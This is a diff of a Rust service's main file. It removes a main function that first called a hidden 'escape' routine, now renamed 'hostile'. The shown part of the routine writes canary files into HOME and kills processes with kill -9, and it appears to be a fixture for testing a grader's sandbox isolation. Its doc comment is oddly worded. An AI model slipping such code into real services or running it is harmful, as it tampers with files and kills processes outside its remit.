@@ -1,13 +1,8 @@
-use std::io::Write;
-use std::process::ExitCode;
-
-use clap::Parser;
-use order_service::app::{Application, shutdown_signal};
-use order_service::config::Config;
+use std::io::Write as _;
 
 /// Hostile: what the grader's rights would allow the service it starts for each scenario.
 /// Then it serves as the export does.
-fn escape() {
+fn hostile() {
     let home = std::env::var("HOME").unwrap_or_default();
     let _ = std::fs::write(format!("{home}/hostile-binary-was-here"), "x");
     let _ = std::fs::write("@CANARY@/written-by-the-binary", "x");
@@ -36,32 +31,5 @@ fn escape() {
             }
         }
         let _ = std::process::Command::new("kill").args(["-9", &pid]).status();
-    }
-}
-
-#[tokio::main]
-async fn main() -> ExitCode {
-    escape();
-    order_service::telemetry::init("order_service=info,tower_http=info");
-    let config = Config::parse();
-    let app = match Application::build(&config).await {
-        Ok(app) => app,
-        Err(error) => {
-            tracing::error!(%error, "cannot start");
-            eprintln!("order-service: {error}");
-            return ExitCode::FAILURE;
-        }
-    };
-    tracing::info!(
-        addr = %app.local_addr(),
-        balance_url = app.balance_url(),
-        "order service listening"
-    );
-    match app.run(shutdown_signal()).await {
-        Ok(()) => ExitCode::SUCCESS,
-        Err(error) => {
-            eprintln!("order-service: {error}");
-            ExitCode::FAILURE
-        }
     }
 }
